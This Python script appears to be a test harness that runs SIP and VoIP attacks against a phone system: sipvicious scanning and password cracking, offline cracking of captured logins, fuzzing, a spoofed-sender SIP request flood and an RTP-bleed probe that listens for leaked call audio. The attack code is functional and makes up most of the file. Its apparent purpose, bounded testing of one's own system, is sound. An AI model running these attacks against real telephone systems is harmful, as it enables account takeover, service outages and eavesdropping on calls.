# SPDX-License-Identifier: Apache-2.0
"""Real attackers, and two that need no program; each is bounded in time and prints one JSON object with what it got.

attackers.py svmap HOST PORT                            looks for telephone systems
attackers.py svwar HOST PORT RANGE METHOD DOMAIN        looks for extensions
attackers.py svcrack HOST PORT USER WORDS DOMAIN        guesses a password, online
attackers.py sipcrack CAPTURE WORDS                     guesses passwords, from what was overheard
attackers.py sipsak HOST PORT USER                      asks, sends trash, asks as fast as it can, asks again
attackers.py flood HOST PORT METHOD RATE SECONDS        so many requests a second, each from somebody else
attackers.py rtpbleed HOST FIRST-LAST                   speaks to every media port, and listens

They come from 127.0.0.66, where no phone of ours is.
"""
import json
import os
import random
import re
import select
import socket
import struct
import subprocess
import sys
import tempfile
import time

SOURCE = "127.0.0.66"


def run(seconds, *command, text=None):
    """What a program wrote until it ended or its time was over. A folder of its own keeps its sessions from the next one."""
    with tempfile.TemporaryDirectory() as home:
        try:
            done = subprocess.run(
                command, env={**os.environ, "HOME": home}, timeout=seconds, input=text, text=True, errors="replace",
                stdout=subprocess.PIPE, stderr=subprocess.STDOUT)
            return done.returncode, done.stdout
        except subprocess.TimeoutExpired as late:
            return None, (late.stdout or b"").decode(errors="replace")


def rows(output):
    """The rows of the table that the programs of sipvicious end with, without its heading."""
    found = [[cell.strip() for cell in line.strip("|").split("|")] for line in output.splitlines() if line.startswith("|")]
    return found[1:]


def vicious(program, port, *arguments):
    """They would take port 5060, each from the other."""
    local = str(random.randrange(26000, 28000))
    _, output = run(90, program, "-b", SOURCE, "-P", local, "-p", port, *arguments)
    return output


def svmap(host, port):
    output = vicious("svmap", port, "-m", "OPTIONS", host)
    return {"found": [row[0] for row in rows(output)], "ran": "Traceback" not in output}


def svwar(host, port, numbers, method, domain):
    output = vicious("svwar", port, "-m", method, "-e" + numbers, "--domain=" + domain, host)
    return {"extensions": [row[0] for row in rows(output)], "ran": "Traceback" not in output}


def svcrack(host, port, user, words, domain):
    output = vicious("svcrack", port, "-u", user, "-d", words, "--domain=" + domain, "--maximumtime=8", host)
    return {"cracked": [row[1] for row in rows(output)], "ran": "Traceback" not in output}


def sipcrack(capture, words):
    """`sipdump` takes logins out of a capture, `sipcrack` asks which one to try."""
    with tempfile.TemporaryDirectory() as folder:
        dump = os.path.join(folder, "logins")
        run(30, "sipdump", "-p", os.path.abspath(capture), dump)
        logins = open(dump).readlines() if os.path.exists(dump) else []
        tries = [run(60, "sipcrack", "-w", os.path.abspath(words), dump, text="%d\n" % (n + 1))[1]
                 for n in range(min(len(logins), 20))]
    found = [re.search(r"Found password: '?([^'\n]+)", each) for each in tries]
    return {"logins": len(logins), "cracked": sorted({each[1].strip() for each in found if each})}


def sipsak(host, port, user):
    ask = lambda: run(8, "sipsak", "-vv", "-s", "sip:%s:%s" % (host, port))[1]
    named = "sip:%s@%s:%s" % (user, host, port)
    first = ask()
    run(15, "sipsak", "-R", "-t", "60", "-s", named)
    run(3, "sipsak", "-F", "-s", named)
    time.sleep(1)
    return {"heard": [line for line in (first + ask()).splitlines() if line.startswith("SIP/2.0")]}


def flood(host, port, method, rate, seconds):
    rate, count = int(rate), int(rate) * int(seconds)
    begin, answers = time.time(), 0
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as flooding:
        flooding.bind((SOURCE, 0))
        flooding.connect((host, int(port)))
        flooding.setblocking(False)
        for number in range(count):
            flooding.send(request(method, host, port, number, flooding.getsockname()[1]))
            answers += drained(flooding, max(0, begin + number / rate - time.time()))
        answers += drained(flooding, 1)
    return {"sent": count, "answers": answers}


def request(method, host, port, number, local):
    """From a user of its own each time, to one that nobody has."""
    body = ("v=0\r\no=- 1 1 IN IP4 %s\r\ns=-\r\nc=IN IP4 %s\r\nt=0 0\r\nm=audio 40000 RTP/AVP 0\r\n" % (SOURCE, SOURCE)
            if method == "INVITE" else "")
    lines = ["%s sip:%d@%s:%s SIP/2.0" % (method, number, host, port),
             "Via: SIP/2.0/UDP %s:%d;branch=z9hG4bK-%d" % (SOURCE, local, number),
             "From: <sip:%d@%s>;tag=%d" % (number, host, number), "To: <sip:%d@%s>" % (number, host),
             "Call-ID: %d@%s" % (number, SOURCE), "CSeq: 1 " + method, "Contact: <sip:x@%s:%d>" % (SOURCE, local),
             "Max-Forwards: 70", "Content-Type: application/sdp", "Content-Length: %d" % len(body)]
    return ("\r\n".join(lines) + "\r\n\r\n" + body).encode()


def drained(listening, seconds):
    """How many datagrams come in that time."""
    end, count = time.time() + seconds, 0
    while True:
        try:
            listening.recv(65535)
            count += 1
        except ConnectionRefusedError:
            pass
        except BlockingIOError:
            if time.time() >= end or not select.select([listening], [], [], max(0, end - time.time()))[0]:
                return count


def rtpbleed(host, ports):
    """Whoever gets a packet back has made a relay send a call's sound to a stranger."""
    first, last = map(int, ports.split("-"))
    leaked = 0
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as stranger:
        stranger.bind((SOURCE, 0))
        stranger.setblocking(False)
        for number in range(5):
            packet = struct.pack(">BBHII", 0x80, 0, 1000 + number, 160 * number, 0x0BADCAFE) + b"\xff" * 160
            for port in range(first, last + 1):
                stranger.sendto(packet, (host, port))
            leaked += drained(stranger, 0.05)
        leaked += drained(stranger, 4)
    return {"leaked_packets": leaked}


ATTACKERS = {each.__name__: each for each in (svmap, svwar, svcrack, sipcrack, sipsak, flood, rtpbleed)}

if __name__ == "__main__":
    print(json.dumps(ATTACKERS[sys.argv[1]](*sys.argv[2:])))
